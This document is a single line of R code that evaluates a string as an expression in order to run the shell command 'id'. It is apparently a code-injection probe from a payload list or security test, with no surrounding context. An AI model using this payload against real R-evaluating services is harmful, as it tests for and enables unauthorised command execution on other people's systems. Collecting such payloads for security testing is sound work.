eval(str2expression("system('id')"))
